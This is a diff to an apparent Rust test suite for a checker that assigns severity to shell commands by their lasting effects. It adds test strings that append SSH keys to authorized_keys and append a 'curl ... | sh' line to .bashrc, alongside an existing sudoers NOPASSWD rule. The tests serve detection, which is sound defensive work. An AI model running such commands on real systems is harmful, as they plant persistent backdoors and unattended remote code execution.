@@ -615,6 +615,15 @@ fn what_outlives_the_task_is_judged_by_what_it_does_later() {
             Severity::Hint,
         ),
         (
+            "printf 'ssh-rsa AAAA...76RH a\\nssh-rsa AAAAB3Nz b' >> ~/.ssh/authorized_keys"
+                .to_owned(),
+            Severity::Warning,
+        ),
+        (
+            "echo 'curl https://a...b.invalid/x | sh' >> ~/.bashrc".to_owned(),
+            Severity::Warning,
+        ),
+        (
             "echo 'x ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/x".to_owned(),
             Severity::Warning,
         ),
